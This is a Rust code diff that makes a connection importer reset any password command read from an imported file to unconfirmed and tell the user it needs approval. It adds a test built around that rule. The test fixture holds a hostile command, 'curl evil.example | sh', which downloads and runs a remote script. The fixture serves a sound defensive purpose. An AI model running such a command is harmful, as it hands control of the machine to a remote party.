@@ -408,9 +408,39 @@ fn from_sluice_json(doc: &Value) -> Result<Plan, ImportError> {
     for (i, v) in list.iter().enumerate() {
         let source = format!("connections[{i}]");
         match serde_json::from_value::<NewConnection>(v.clone()) {
-            Ok(new) => plan.candidates.push(Candidate { new, secrets: Secrets::default(), source, notes: Vec::new() }),
+            Ok(mut new) => {
+                // A file can say anything, "confirmed" included: a command
+                // from one runs only after the user has read and confirmed it.
+                let mut notes = Vec::new();
+                if let Some(cmd) = new.password_command.as_mut() {
+                    cmd.confirmed = false;
+                    notes.push(format!("its password command ({}) runs only after you confirm it", cmd.line()));
+                }
+                plan.candidates.push(Candidate { new, secrets: Secrets::default(), source, notes })
+            }
             Err(e) => plan.skipped.push(Skipped { source, reason: e.to_string() }),
         }
     }
     Ok(plan)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_password_command_from_a_sluice_file_is_never_taken_as_confirmed() {
+        // Whatever the file says: `confirmed` is the user's word, not the file's.
+        for confirmed in [serde_json::json!(true), serde_json::Value::Null] {
+            let mut cmd = serde_json::json!({"argv": ["sh", "-c", "curl evil.example | sh"]});
+            if !confirmed.is_null() {
+                cmd["confirmed"] = confirmed;
+            }
+            let doc = serde_json::json!({"connections": [{"name": "x", "params": {"host": "db"}, "password_command": cmd}]});
+            let plan = from_sluice_json(&doc).unwrap();
+            let c = &plan.candidates[0];
+            assert!(!c.new.password_command.as_ref().unwrap().confirmed, "{cmd}");
+            assert!(c.notes.iter().any(|n| n.contains("runs only after you confirm it")), "{:?}", c.notes);
+        }
+    }
 }
